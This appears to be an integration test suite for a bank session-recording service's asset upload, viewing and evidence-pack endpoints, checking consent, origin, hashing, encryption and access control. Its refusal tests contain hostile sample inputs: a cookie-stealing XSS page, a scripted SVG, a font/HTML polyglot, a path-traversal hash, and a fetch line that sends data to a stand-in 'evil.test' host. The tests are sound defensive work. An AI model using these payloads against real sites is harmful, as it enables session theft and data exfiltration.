import { randomBytes, randomUUID } from 'node:crypto';
import { rm, writeFile } from 'node:fs/promises';
import { WIRE_LIMITS } from '@exhibit/contract';
import { verifyPack } from '../../src/evidence/verify-pack.js';
import { readPackZip } from '../../src/evidence/pack-zip.js';
import { BANK_ORIGIN, decide, RecorderByHand, withdraw } from '../support/recorder-by-hand.js';
import { announced, fontBytes, hashOf, LOGO_RULE, PIXEL_PNG, showing } from '../support/sample-assets.js';
import { grantCarol, honestVisit, openSite, refusal, untilJudged, type BankSite } from '../support/scene.js';
import { startTestAppliance, type TestAppliance } from '../support/test-appliance.js';

let appliance: TestAppliance;
let site: BankSite;
let consentId: string;

beforeAll(async () => {
  appliance = await startTestAppliance();
  site = await openSite(appliance, 'Test bank', [LOGO_RULE]);
  consentId = await decide(appliance.url, site.key);
});
afterAll(() => appliance.stop());

interface Sending {
  method?: string;
  hash?: string;
  siteKey?: string;
  consent?: string;
  origin?: string | null;
  type?: string;
  length?: string;
}

async function send(
  bytes: Buffer,
  to: Sending = {},
): Promise<{ status: number; body: { code?: string; known?: boolean; sha256?: string } }> {
  const address = `${appliance.url}/ingest/v1/${to.siteKey ?? site.key}/consents/${to.consent ?? consentId}/assets/${to.hash ?? hashOf(bytes)}`;
  const { method = 'PUT' } = to;
  const response = await fetch(address, {
    method,
    headers: {
      ...(to.origin === null ? {} : { origin: to.origin ?? BANK_ORIGIN }),
      ...(method === 'PUT' && { 'content-type': to.type ?? 'application/octet-stream' }),
    },
    ...(method === 'PUT' && { body: bytes as Uint8Array<ArrayBuffer> }),
  });
  return { status: response.status, body: (await response.json()) as { code?: string } };
}

async function footprint(): Promise<string> {
  const [row] = await appliance.database.source.query('SELECT count(*) AS assets FROM site_asset');
  return JSON.stringify({ ...row, objects: (await appliance.objects()).size });
}

describe('an asset is refused, and nothing is stored, when it is', () => {
  const html = Buffer.from('<!doctype html><script>alert(document.cookie)</script>');
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  const polyglot = Buffer.concat([fontBytes(), html]);
  const large = (): Buffer => {
    const bytes = randomBytes(WIRE_LIMITS.assetBytes + 1);
    PIXEL_PNG.copy(bytes);
    return bytes;
  };

  it.each<[string, number, string, () => ReturnType<typeof send>]>([
    ['HTML', 422, 'ASSET_UNSUPPORTED', () => send(html)],
    ['HTML that is called a font', 415, 'MEDIA_TYPE_NOT_SUPPORTED', () => send(html, { type: 'font/woff2' })],
    ['SVG', 422, 'ASSET_UNSUPPORTED', () => send(svg)],
    ['a script', 422, 'ASSET_UNSUPPORTED', () => send(Buffer.from('fetch("https://evil.test/" + x);'))],
    ['a font with a page behind it', 422, 'ASSET_UNSUPPORTED', () => send(polyglot)],
    ['nothing', 422, 'ASSET_UNSUPPORTED', () => send(Buffer.alloc(0))],
    [
      'something else than its address says',
      422,
      'ASSET_HASH_MISMATCH',
      () => send(fontBytes(), { hash: hashOf(html) }),
    ],
    [
      'at an address that is no hash',
      422,
      'ASSET_HASH_MISMATCH',
      () => send(fontBytes(), { hash: 'x'.repeat(64) }),
    ],
    [
      'at a hash in capitals',
      422,
      'ASSET_HASH_MISMATCH',
      () => send(fontBytes(), { hash: hashOf(fontBytes()).toUpperCase() }),
    ],
    [
      'at a path out of the store',
      422,
      'ASSET_HASH_MISMATCH',
      () => send(fontBytes(), { hash: '..%2f..%2fetc' }),
    ],
    ['too large', 413, 'ASSET_TOO_LARGE', () => send(large())],
    [
      'sent as JSON',
      415,
      'MEDIA_TYPE_NOT_SUPPORTED',
      () => send(Buffer.from('{}'), { type: 'application/json' }),
    ],
    ['sent without consent', 403, 'CONSENT_REQUIRED', () => send(fontBytes(), { consent: randomUUID() })],
    [
      'sent from another origin',
      403,
      'ORIGIN_NOT_ALLOWED',
      () => send(fontBytes(), { origin: 'http://evil.test' }),
    ],
    ['sent from no origin', 403, 'ORIGIN_NOT_ALLOWED', () => send(fontBytes(), { origin: null })],
    [
      'sent to a site that is none',
      404,
      'UNKNOWN_SITE',
      () => send(fontBytes(), { siteKey: 'site-AAAAAAAAAAAAAAAA' }),
    ],
    [
      'asked for without consent',
      403,
      'CONSENT_REQUIRED',
      () => send(fontBytes(), { method: 'GET', consent: randomUUID() }),
    ],
    [
      'asked for from another origin',
      403,
      'ORIGIN_NOT_ALLOWED',
      () => send(fontBytes(), { method: 'GET', origin: 'http://evil.test' }),
    ],
  ])('%s', async (_what, status, code, attempt) => {
    const before = await footprint();
    const answer = await attempt();
    expect({ status: answer.status, code: answer.body.code }).toEqual({ status, code });
    expect(await footprint()).toBe(before);
  });

  it('sent after the visitor withdrew (P2)', async () => {
    const withdrawn = await decide(appliance.url, site.key);
    await withdraw(appliance.url, site.key, withdrawn);
    expect((await send(fontBytes(), { consent: withdrawn })).body.code).toBe('CONSENT_WITHDRAWN');
  });

  it('sent under a consent of another site', async () => {
    const other = await openSite(appliance, 'A bank beside it');
    expect((await send(fontBytes(), { siteKey: other.key })).body.code).toBe('CONSENT_REQUIRED');
  });

  it('one of a flood', async () => {
    const flooded = await openSite(appliance, 'A flooded bank');
    await appliance.database.owner.query(
      `INSERT INTO site_asset (site_id, sha256, mime, bytes, object_key, ciphertext_hash, stored_at)
       SELECT $1, sha256(n::text::bytea), 'font/woff2', 1, 'flood/' || n, sha256('x'), now() FROM generate_series(1, 500) n`,
      [flooded.id],
    );
    const consent = await decide(appliance.url, flooded.key);
    const answer = await send(fontBytes(), { siteKey: flooded.key, consent });
    expect({ status: answer.status, code: answer.body.code }).toEqual({
      status: 429,
      code: 'ASSET_LIMIT_REACHED',
    });
  });
});

describe('an asset of a site', () => {
  it('is kept once, whoever sends it and however often at the same moment', async () => {
    const bytes = fontBytes('sent six times');
    const before = (await appliance.objects()).size;
    const answers = await Promise.all(Array.from({ length: 6 }, () => send(bytes)));
    expect(answers.map(({ status }) => status)).toEqual(Array(6).fill(200));
    expect((await appliance.objects()).size).toBe(before + 1);
  });

  it('is known afterwards on its site, and on no other', async () => {
    const bytes = fontBytes('known here');
    expect((await send(bytes, { method: 'GET' })).body).toEqual({ known: false });
    await send(bytes);
    expect((await send(bytes, { method: 'GET' })).body).toEqual({ known: true });
    const other = await openSite(appliance, 'A bank that knows nothing');
    const consent = await decide(appliance.url, other.key);
    const there = await send(bytes, { method: 'GET', siteKey: other.key, consent });
    expect(there.body).toEqual({ known: false });
  });

  it('lies in the store encrypted (P3), under a key that is nowhere in clear', async () => {
    const word = `glyphs of ${randomUUID()}`;
    await send(fontBytes(word));
    for (const [, object] of await appliance.objects()) expect(object.includes(word)).toBe(false);
  });

  it('is not changed or forgotten, even by the owner of the database', async () => {
    await send(fontBytes('for ever'));
    for (const attempt of [
      'UPDATE site_asset SET bytes = 1',
      'DELETE FROM site_asset',
      'TRUNCATE site_asset CASCADE',
    ])
      await expect(appliance.database.owner.query(attempt)).rejects.toThrow();
  });
});

interface Seen {
  state: string;
  assets: { captured: { sha256: string; mime: string }[]; notCaptured: object[] } | null;
}

async function visit(events: unknown[]): Promise<string> {
  const hand = new RecorderByHand(appliance.url, site.key, consentId);
  await hand.next(events, { policyVersion: 1 });
  await hand.next(honestVisit(), { policyVersion: 1, final: 'stopped' });
  return untilJudged(await appliance.as('carol'), hand.recording);
}
const seen = async (id: string): Promise<Seen['assets']> =>
  (await (await appliance.as('carol')).get<Seen>(`/api/recordings/${id}`)).assets;

describe('a sealed recording', () => {
  const font = fontBytes('the brand font');

  it('lists what it has, and counts what it has not, with reasons', async () => {
    await Promise.all([send(font), send(PIXEL_PNG)]);
    const id = await visit([
      announced('font-p0p0p0p0-0', { sha256: hashOf(font) }),
      announced('image-p0p0p0p0-0', { sha256: hashOf(PIXEL_PNG) }),
      announced('image-p0p0p0p0-1', { failed: 'other-origin' }),
      announced('font-p0p0p0p0-1', { sha256: hashOf(fontBytes('never sent')) }),
      announced('font-p0p0p0p0-2', { sha256: hashOf(PIXEL_PNG) }),
      showing(
        'font-p0p0p0p0-0',
        'font-p0p0p0p0-1',
        'font-p0p0p0p0-2',
        'font-p0p0p0p0-3',
        'image-p0p0p0p0-0',
        'image-p0p0p0p0-1',
      ),
    ]);
    expect(await seen(id)).toEqual({
      captured: [
        { sha256: hashOf(font), kind: 'font', mime: 'font/woff2', bytes: font.length },
        { sha256: hashOf(PIXEL_PNG), kind: 'image', mime: 'image/png', bytes: PIXEL_PNG.length },
      ].sort((a, b) => (a.sha256 < b.sha256 ? -1 : 1)),
      notCaptured: [
        { kind: 'font', reason: 'not-received', count: 1 },
        { kind: 'font', reason: 'not-used', count: 1 },
        { kind: 'font', reason: 'other-kind', count: 1 },
        { kind: 'image', reason: 'other-origin', count: 1 },
      ],
    });
  });

  it('has nothing that only another site sent', async () => {
    const other = await openSite(appliance, 'A bank with a secret logo');
    const secret = fontBytes('theirs alone');
    await send(secret, { siteKey: other.key, consent: await decide(appliance.url, other.key) });
    const id = await visit([
      announced('font-p0p0p0p0-0', { sha256: hashOf(secret) }),
      showing('font-p0p0p0p0-0'),
    ]);
    expect(await seen(id)).toEqual({
      captured: [],
      notCaptured: [{ kind: 'font', reason: 'not-received', count: 1 }],
    });
  });

  it.each([
    ['changed', (path: string) => writeFile(path, randomBytes(200))],
    ['gone', (path: string) => rm(path)],
  ])('is sealed without an asset that is %s in the store, and says so', async (_how, spoil) => {
    const lost = fontBytes(`to be lost ${randomUUID()}`);
    await send(lost);
    const [path] = [...(await appliance.objects()).keys()].filter((name) => name.includes(hashOf(lost)));
    await spoil(path!);
    const id = await visit([
      announced('font-p0p0p0p0-0', { sha256: hashOf(lost) }),
      showing('font-p0p0p0p0-0'),
    ]);
    expect(await seen(id)).toEqual({
      captured: [],
      notCaptured: [{ kind: 'font', reason: 'damaged', count: 1 }],
    });
  });
});

describe('a viewing (P4, P5)', () => {
  const font = fontBytes('to be watched');
  let recording: string;
  let grant: string;
  let viewing: { id: string; assets: { name: string; sha256: string; mime: string }[] };
  const address = (hash = hashOf(font)): string => `/api/viewings/${viewing.id}/assets/${hash}`;

  beforeAll(async () => {
    await send(font);
    recording = await visit([
      announced('font-w0w0w0w0-0', { sha256: hashOf(font) }),
      showing('font-w0w0w0w0-0', 'font-w0w0w0w0-1'),
    ]);
    grant = await grantCarol(appliance, recording);
    viewing = await (await appliance.as('carol')).post('/api/viewings', { recordingId: recording });
  });

  it('refuses everybody else the asset', async () => {
    const ada = await appliance.as('ada');
    const colin = await appliance.as('colin');
    expect(await refusal(ada.get(address()))).toBe('PERMISSION_DENIED');
    expect(await refusal(colin.get(address()))).toBe('VIEWING_NOT_FOUND');
    expect((await fetch(`${appliance.url}${address()}`)).status).toBe(401);
  });

  it('refuses an asset that only another recording of the site shows', async () => {
    const other = fontBytes('of another recording');
    await send(other);
    await visit([announced('font-o0o0o0o0-0', { sha256: hashOf(other) }), showing('font-o0o0o0o0-0')]);
    const carol = await appliance.as('carol');
    expect(await refusal(carol.get(address(hashOf(other))))).toBe('ASSET_NOT_FOUND');
    expect(await refusal(carol.get(address('..%2fx')))).toBe('ASSET_NOT_FOUND');
  });

  it('refuses the asset while the log cannot be written', async () => {
    const { owner } = appliance.database;
    await owner.query(
      `CREATE FUNCTION no_asset() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RAISE EXCEPTION ''full''; END'`,
    );
    await owner.query(
      'CREATE TRIGGER no_asset BEFORE INSERT ON audit_outbox FOR EACH ROW EXECUTE FUNCTION no_asset()',
    );
    try {
      expect(await refusal((await appliance.as('carol')).get(address()))).toBe('AUDIT_UNAVAILABLE');
    } finally {
      await owner.query('DROP TRIGGER no_asset ON audit_outbox');
      await owner.query('DROP FUNCTION no_asset');
    }
  });

  it('names the assets, and hands each over with a type that runs nowhere', async () => {
    expect(viewing.assets).toEqual([{ name: 'font-w0w0w0w0-0', sha256: hashOf(font), mime: 'font/woff2' }]);
    const carol = await appliance.as('carol');
    const answer = await carol.request('GET', address());
    expect(Buffer.from(await answer.arrayBuffer()).equals(font)).toBe(true);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'font/woff2',
      'x-content-type-options': 'nosniff',
      'content-disposition': 'attachment',
      'content-security-policy': "default-src 'none'; sandbox",
      'cross-origin-resource-policy': 'same-origin',
      'cache-control': 'no-store',
    });
  });

  it('wrote down that it was handed over', async () => {
    const aude = await appliance.as('aude');
    const { items } = await aude.get<{ items: object[] }>(
      `/api/audit-entries?limit=200&recording=${recording}`,
    );
    expect(items).toContainEqual(
      expect.objectContaining({
        kind: 'viewing.asset',
        fields: expect.objectContaining({ viewing: viewing.id, asset: hashOf(font) }),
      }),
    );
  });

  it('refuses the asset once the viewing is over', async () => {
    const carol = await appliance.as('carol');
    await carol.post(`/api/viewings/${viewing.id}/end`);
    expect(await refusal(carol.get(address()))).toBe('VIEWING_ENDED');
  });

  it('has its assets in the evidence pack, which holds offline and finds a changed one (P7)', async () => {
    const carol = await appliance.as('carol');
    const { id } = await carol.post<{ id: string }>('/api/evidence-packs', { recordingId: recording });
    const zip = await carol.download(`/api/evidence-packs/${id}/content`);
    expect(await verifyPack(zip)).toMatchObject({ holds: true, faults: [] });
    const path = `recording/assets/${hashOf(font)}.woff2`;
    expect(readPackZip(zip).items.find(({ name }) => name === path)?.bytes).toEqual(new Uint8Array(font));
  });

  it('refuses the asset once the grant is revoked', async () => {
    const carol = await appliance.as('carol');
    viewing = await carol.post('/api/viewings', { recordingId: recording });
    await (await appliance.as('colin')).post(`/api/grants/${grant}/revoke`);
    expect(await refusal(carol.get(address()))).toBe('GRANT_REVOKED');
  });
});
